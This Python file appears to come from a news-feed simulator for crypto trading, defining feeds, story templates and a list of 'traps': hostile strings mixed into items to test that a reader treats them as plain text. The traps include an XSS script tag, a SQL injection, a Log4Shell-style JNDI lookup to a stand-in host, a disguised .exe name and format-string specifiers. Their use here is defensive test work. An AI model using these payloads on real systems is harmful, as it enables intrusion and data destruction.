"""What the news desk can say: feeds, subjects, and the traps that real feeds set for readers."""

from dataclasses import dataclass, field


@dataclass(frozen=True, slots=True)
class Story:
    """One item. `kind` is what it is about, `symbol` the wire name of the pair it was written for."""

    guid: str
    at_ms: int
    kind: str
    symbol: str
    title: str
    body: str
    is_html: bool
    is_tracked: bool


@dataclass(frozen=True, slots=True)
class Feed:
    """One feed.

    `pace` is the chance of an item per slot, `mix` the weights of its subjects, `traps` the share of
    items with hostile text.
    """

    title: str
    pace: float
    mix: dict[str, int] = field(default_factory=dict)
    traps: float = 0.0


@dataclass(frozen=True, slots=True)
class Subject:
    """Ways to say one kind of news."""

    kind: str
    titles: tuple[str, ...]
    bodies: tuple[str, ...]


FEEDS = {
    "exchange": Feed(
        "Exchange notices", 0.25, {"listing": 5, "delisting": 3, "maintenance": 2, "airdrop": 1}
    ),
    "wire": Feed(
        "The Chain Wire",
        0.6,
        {"hack": 2, "partnership": 4, "regulation": 3, "macro": 3, "price": 4, "word": 2, "noise": 3},
        0.05,
    ),
    "chatter": Feed("Chatter", 0.8, {"price": 5, "noise": 6, "word": 4, "partnership": 1, "hack": 1}, 0.15),
}

SUBJECTS = {
    "listing": Subject(
        "listing",
        (
            "{coin} ({ticker}) now listed with {pair}",
            "New listing: {ticker} opens for trading",
            "Initial listing of {coin}",
        ),
        (
            "Deposits for {ticker} are open. Trading in {pair} starts today.",
            "{coin} joins the innovation zone.",
        ),
    ),
    "delisting": Subject(
        "delisting",
        (
            "Notice: {pair} will be delisted",
            "Trading of {ticker} to be suspended",
            "Delisting review: {coin}",
        ),
        (
            "{coin} no longer meets the listing criteria. Please cancel open orders in {pair}.",
            "Withdrawals of {ticker} stay open for 30 days.",
        ),
    ),
    "maintenance": Subject(
        "maintenance",
        ("Wallet maintenance for {ticker}", "Scheduled upgrade of {coin} deposits"),
        ("Deposits and withdrawals of {ticker} pause for about two hours. Trading is not affected.",),
    ),
    "airdrop": Subject(
        "airdrop",
        ("Kickstarter: vote with MX for {ticker}", "{coin} airdrop for holders"),
        ("{millions} million {ticker} to share.",),
    ),
    "hack": Subject(
        "hack",
        (
            "{coin} bridge exploited, ${millions} million gone",
            "{ticker} plunges {percent}% after exploit",
            "Attacker drains {coin} treasury",
        ),
        (
            "The {coin} team paused its contracts after an attacker withdrew ${millions} million.",
            "Security researchers traced the stolen {ticker} to a mixer.",
        ),
    ),
    "partnership": Subject(
        "partnership",
        ("{coin} partners with payments giant", "{ticker} integration goes live", "{coin} signs cloud deal"),
        (
            "The partnership brings {ticker} to {millions} million customers, the companies said.",
            "{coin} will power settlement for a large retailer.",
        ),
    ),
    "regulation": Subject(
        "regulation",
        (
            "Regulator opens inquiry into {coin}",
            "Court rules {ticker} is no security",
            "Lawmakers weigh stablecoin bill",
        ),
        (
            "The agency sent subpoenas to the foundation behind {ticker}.",
            "The ruling may take months to take effect.",
        ),
    ),
    "macro": Subject(
        "macro",
        (
            "Fed holds rates, crypto steady",
            "Inflation cools more than expected",
            "Dollar jumps as yields climb",
        ),
        ("Risk assets barely moved after the decision.", "Traders now price {percent}% odds of a cut."),
    ),
    "price": Subject(
        "price",
        (
            "{ticker} rallies {percent}% in a day",
            "{coin} slips {percent}% as volume dries up",
            "Why is {ticker} moving?",
        ),
        (
            "{pair} traded at its highest level in weeks.",
            "Analysts see little news behind the move in {coin}.",
        ),
    ),
    # Tickers that are English words: a reader that matches words to coins will see coins here.
    "word": Subject(
        "noise",
        (
            "One more time: the case for patience",
            "Near the top or just the start?",
            "Gas prices fall for a third week",
            "Just hold on: people ask what comes next",
            "The sand in the machine of high finance",
            "Link between sleep and trading losses found",
            "A flow of funds into bonds",
            "Magic numbers and other myths",
        ),
        (
            "Open any chart and you will find one like it, people near the desk say.",
            "It is a matter of trust, and just a game to some.",
        ),
    ),
    "noise": Subject(
        "noise",
        (
            "Five charts to watch this week",
            "Podcast: is this cycle different?",
            "Morning briefing",
            "Weekly recap",
        ),
        ("Our editors look at what moved and what did not.", "Not financial advice."),
    ),
}

# Hostile or broken text that feeds really carry; all of it must arrive as text.
TRAPS = (
    " <script>alert('rss')</script>",
    " ]]> & <b>unclosed",
    " &amp;lt;already escaped&amp;gt;",
    " '; DROP TABLE news; --",
    " \u202egnp.exe\u202c \u0000\u0008 zero\u200bwidth",
    " {ticker} %s %n ${{jndi:ldap://x.invalid/a}}",
    " 🚀🚀🚀 مرحبا 你好",
    " " + "A" * 4000,
)
